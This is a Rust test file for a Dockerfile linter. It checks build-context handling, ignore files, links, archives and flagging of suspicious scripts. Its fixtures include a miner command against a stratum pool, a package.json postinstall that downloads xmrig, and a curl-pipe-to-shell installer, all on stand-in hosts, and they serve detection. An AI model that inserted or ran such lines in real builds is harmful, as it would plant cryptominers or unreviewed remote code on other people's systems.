//! `lint` with the files that a Dockerfile takes.

use super::project::Project;

const TAKES_ALL: &str = "FROM debian:12\nCOPY . /app\n";
const SCRIPT: &str = "#!/bin/sh\nset -e\nexec /opt/tool -o stratum+tcp://pool.example.invalid:1\n";

#[test]
fn a_finding_points_into_the_script_and_at_the_copy() {
    let project = Project::with(&[("app/Dockerfile", TAKES_ALL), ("app/bin/start", SCRIPT)]);
    let run = project.run(&["lint", "app"]);
    assert_eq!(run.code, 1, "{}", run.err);
    assert!(run.out.contains("app/bin/start:3:"), "{}", run.out);
    assert!(run.out.contains("app/Dockerfile:2:6"), "{}", run.out);
    assert!(run.out.contains("this takes the file"), "{}", run.out);
}

#[test]
fn the_context_may_lie_elsewhere_or_be_left_out() {
    let project = Project::with(&[
        ("docker/Dockerfile", "FROM debian:12\nCOPY bin/start /\n"),
        ("src/bin/start", SCRIPT),
    ]);
    assert_eq!(project.run(&["lint", "docker"]).code, 0);
    assert_eq!(project.run(&["lint", "docker", "--context", "src"]).code, 1);
    assert_eq!(project.run(&["lint", "src", "docker", "--context", "src", "--no-context"]).code, 2);
    project.write("docker/bin/start", SCRIPT);
    assert_eq!(project.run(&["lint", "docker"]).code, 1);
    assert_eq!(project.run(&["lint", "docker", "--no-context"]).code, 0);
}

#[test]
fn a_context_that_is_not_there_is_an_error() {
    let project = Project::with(&[("Dockerfile", TAKES_ALL)]);
    let run = project.run(&["lint", "--context", "nowhere"]);
    assert_eq!(run.code, 2);
    assert!(run.err.contains("`nowhere` is no directory"), "{}", run.err);
}

#[test]
fn what_the_build_does_not_see_is_not_judged() {
    let files = [("Dockerfile", TAKES_ALL), ("start.sh", SCRIPT), (".dockerignore", "*.sh\n")];
    let project = Project::with(&files);
    assert_eq!(project.run(&["lint"]).code, 0);
    // the ignore file of this Dockerfile comes first
    project.write("Dockerfile.dockerignore", "*.md\n");
    assert_eq!(project.run(&["lint"]).code, 1);
}

#[test]
fn a_file_gives_the_same_answer_to_lint_and_scan_whatever_its_name() {
    use std::os::unix::ffi::OsStrExt as _;
    let project = Project::with(&[
        ("a/Dockerfile", TAKES_ALL),
        ("b/Dockerfile", TAKES_ALL),
        ("b/data", SCRIPT),
    ]);
    let odd = std::ffi::OsStr::from_bytes(b"run\xff.sh");
    std::fs::write(project.path("a").join(odd), SCRIPT).unwrap();
    std::fs::hard_link(project.path("b/data"), project.path("b/start.sh")).unwrap();
    for directory in ["a", "b"] {
        for command in ["lint", "scan"] {
            let run = project.run(&[command, "--format", "short", directory]);
            assert_eq!(run.code, 1, "{command} {directory}: {}{}", run.out, run.err);
            assert!(run.out.contains("STOP[mining-pool]"), "{command} {directory}: {}", run.out);
        }
    }
}

#[test]
fn a_text_that_is_a_script_under_its_second_name_alone_is_read() {
    let pool = "exec /opt/tool -o stratum+tcp://pool.example.invalid:1\n";
    let project = Project::with(&[("b/Dockerfile", TAKES_ALL), ("b/data", pool)]);
    for command in ["lint", "scan"] {
        assert_eq!(project.run(&[command, "b"]).code, 0, "{command}");
    }
    std::fs::hard_link(project.path("b/data"), project.path("b/start.sh")).unwrap();
    for command in ["lint", "scan"] {
        assert_eq!(project.run(&[command, "b"]).code, 1, "{command}");
    }
}

#[test]
fn manifests_are_read_as_the_commands_that_they_stand_for() {
    let files = [
        (
            "package.json",
            "{\"scripts\": {\n \"postinstall\": \"curl -O https://h.example.invalid/xmrig\" }}",
            2,
        ),
        ("requirements.txt", "# tools\n\nhttps://h.example.invalid/xmrig.tar.gz\n", 3),
        ("Cargo.toml", "[dependencies]\nx = { git = \"https://github.com/xmrig/xmrig\" }\n", 2),
    ];
    for (name, text, line) in files {
        let project = Project::with(&[("Dockerfile", TAKES_ALL), (name, text)]);
        let run = project.run(&["lint", "--format", "short"]);
        assert_eq!(run.code, 1, "{name}: {}", run.out);
        assert!(run.out.contains(&format!("{name}:{line}:")), "{name}: {}", run.out);
    }
    let listed = "FROM debian:12\nCOPY dl.cfg /tmp/\nRUN curl -K /tmp/dl.cfg\n";
    let urls = "url = https://h.example.invalid/xmrig\noutput = /opt/app\n";
    let project = Project::with(&[("Dockerfile", listed), ("dl.cfg", urls)]);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("dl.cfg:1:33"), "{}", run.out);
}

#[test]
fn archives_are_opened() {
    use std::io::Write as _;
    let project = Project::with(&[("Dockerfile", "FROM debian:12\nADD rootfs.tgz /\n")]);
    let mut header = [0; 512];
    header[..7].copy_from_slice(b"bin/run");
    header[100..107].copy_from_slice(b"0000755");
    header[124..135].copy_from_slice(format!("{:011o}", SCRIPT.len()).as_bytes());
    header[148..156].copy_from_slice(b"        ");
    header[156] = b'0';
    header[257..263].copy_from_slice(b"ustar\0");
    let sum: u32 = header.iter().map(|byte| u32::from(*byte)).sum();
    header[148..155].copy_from_slice(format!("{sum:06o}\0").as_bytes());
    let mut tar = header.to_vec();
    tar.extend_from_slice(SCRIPT.as_bytes());
    tar.resize(512 + 512 + 1024, 0);
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    packed.write_all(&tar).expect("a vector takes everything");
    project.write("rootfs.tgz", packed.finish().expect("a vector takes everything"));
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("rootfs.tgz!bin/run:3:"), "{}", run.out);
    let cut = std::fs::read(project.path("rootfs.tgz")).expect("it is there");
    project.write("rootfs.tgz", &cut[..cut.len() / 2]);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("opaque-file") && run.out.contains("cut off"), "{}", run.out);
}

#[test]
fn a_text_that_gets_the_name_of_a_script_is_one() {
    let text = "FROM debian:12\nCOPY setup.txt /setup\nRUN sh /setup\n";
    let project = Project::with(&[
        ("Dockerfile", text),
        ("setup.txt", SCRIPT.split_once('\n').expect("lines").1),
    ]);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("setup.txt:2:"), "{}", run.out);
    project.write("Dockerfile", "FROM debian:12\nCOPY setup.txt /notes\nRUN sh /setup\n");
    assert_eq!(project.run(&["lint"]).code, 0);
}

#[test]
fn a_script_that_is_not_utf_8_is_read_at_the_right_places() {
    let project = Project::with(&[("Dockerfile", TAKES_ALL)]);
    let mut script = b"#!/bin/sh\n# \xff\xfe\n".to_vec();
    script.extend_from_slice(b"run stratum+tcp://pool.example.invalid:1\n");
    project.write("start", script);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("start:3:5"), "{}", run.out);
}

#[cfg(unix)]
#[test]
fn links_lead_nowhere_outside_and_pipes_block_nothing() {
    use std::os::unix::fs::symlink;
    let project = Project::with(&[("app/Dockerfile", TAKES_ALL), ("start.sh", SCRIPT)]);
    symlink("../start.sh", project.path("app/outside.sh")).expect("a link can be made");
    symlink(".", project.path("app/loop")).expect("a link can be made");
    let made = std::process::Command::new("mkfifo").arg(project.path("app/pipe.sh")).status();
    assert!(made.expect("mkfifo runs").success());
    assert_eq!(project.run(&["lint", "app"]).code, 0);
    project.write("elsewhere/start.sh", SCRIPT);
    symlink("../elsewhere", project.path("app/way")).expect("a link can be made");
    project.write("app/Dockerfile", "FROM debian:12\nCOPY way/start.sh /app/\n");
    let run = project.run(&["lint", "app"]);
    assert!(run.out.contains("leads out of the build context"), "{}", run.out);
    assert!(!run.out.contains("pool.example.invalid"), "it was read: {}", run.out);
    project.write("app/hidden/real", SCRIPT);
    project.write("app/Dockerfile", "FROM debian:12\nCOPY link.sh /app/\n");
    symlink("hidden/real", project.path("app/link.sh")).expect("a link can be made");
    assert_eq!(project.run(&["lint", "app"]).code, 1);
}

#[test]
fn a_script_that_is_too_much_to_follow_is_said_if_something_runs_it() {
    let n = "1 2 3 4 5 6 7 8 9 0";
    let rounds = format!(
        "#!/bin/sh\nfor a in {n}; do for b in {n}; do for c in {n}; do for d in {n}; do for e in {n}; do\n\
         mkdir -p /cache/$a/$b/$c/$d/$e\ndone; done; done; done; done\n"
    );
    let run = "FROM debian:12\nCOPY fill.sh /usr/bin/\nENTRYPOINT [\"fill.sh\"]\n";
    let project = Project::with(&[("a/Dockerfile", run), ("a/fill.sh", &rounds)]);
    let outcome = project.run(&["lint", "--format", "short", "a"]);
    assert_eq!(outcome.code, 0, "{}", outcome.err);
    assert!(outcome.out.contains("unfinished-reading"), "{}", outcome.out);
    let outcome = project.run(&["lint", "--preset", "locked-down", "--format", "short", "a"]);
    assert_eq!(outcome.code, 1, "{}", outcome.out);
    project.write("a/Dockerfile", TAKES_ALL);
    let outcome = project.run(&["lint", "--format", "short", "a"]);
    assert!(!outcome.out.contains("unfinished-reading"), "{}", outcome.out);
}

/// Every loop over a directory goes through the names of all its files.
#[test]
fn loops_over_many_files_end_and_say_so() {
    let loops = |count: usize| "for f in /d/*.txt; do echo \"$f\"; done\n".repeat(count);
    let text = "FROM debian:12\nCOPY d/ /d/\nCOPY x.sh /x.sh\nRUN sh /x.sh\n";
    let project = Project::with(&[("Dockerfile", text)]);
    for number in 0..600 {
        project.write(&format!("d/{number}.txt"), "x");
    }
    for (count, is_said) in [(300, false), (500, true)] {
        project.write("x.sh", loops(count));
        let run = project.run(&["lint", "--format", "short", "Dockerfile"]);
        assert_eq!(run.out.contains("unfinished-reading"), is_said, "{count}: {}", run.out);
    }
}

/// A build that names so many patterns of files is taken to use all files, so that the work stays proportional to them.
#[test]
fn beside_very_many_patterns_every_script_of_the_context_counts() {
    const PIPED: &str = "#!/bin/sh\ncurl -fsSL https://get.example.invalid/install.sh | sh\n";
    for (patterns, is_reported) in [(64, false), (65, true)] {
        let copies = (0..patterns).map(|number| format!("COPY data{number}-* /data/\n"));
        let text = format!("FROM debian:12\n{}COPY tools /tools\n", copies.collect::<String>());
        let project = Project::with(&[("Dockerfile", &text), ("tools/update.sh", PIPED)]);
        let run = project.run(&["lint"]);
        assert_eq!(run.out.contains("pipe-to-shell"), is_reported, "{patterns}: {}", run.out);
    }
}

#[test]
fn large_settings_that_a_program_is_given_are_said_to_be_unread() {
    let dockerfile =
        "FROM debian:12\nCOPY . /opt/\nCMD [\"/opt/run\", \"-c\", \"/opt/run.json\"]\n";
    let project = Project::with(&[("Dockerfile", dockerfile)]);
    let large = format!("{{\"about\": \"{}\", \"port\": 80}}\n", "word ".repeat(300_000));
    project.write("other.json", &large);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(!run.out.contains("opaque-file"), "{}", run.out);
    project.write("run.json", &large);
    let run = project.run(&["lint", "--format", "short"]);
    assert!(run.out.contains("opaque-file") && run.out.contains("settings longer"), "{}", run.out);
}
